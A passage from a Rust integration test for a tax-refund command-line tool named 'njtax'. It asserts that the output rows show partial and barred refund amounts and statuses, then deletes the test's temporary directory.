        row(&text, "part.ron").contains("$552.50 $0.00 0 ok (the rest of the refund is barred)"),
        "{text}"
    );
    assert!(!text.contains("$525.65"), "{text}");
    let out = njtax(&["clinic", dir.to_str().unwrap()]);
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(row(&text, "barred.ron").contains(" barred "), "{text}");
    assert!(!row(&text, "barred.ron").contains("$0.00"), "{text}");
    assert!(row(&text, "part.ron").contains("$552.50"), "{text}");
    let _ = std::fs::remove_dir_all(&dir);
}
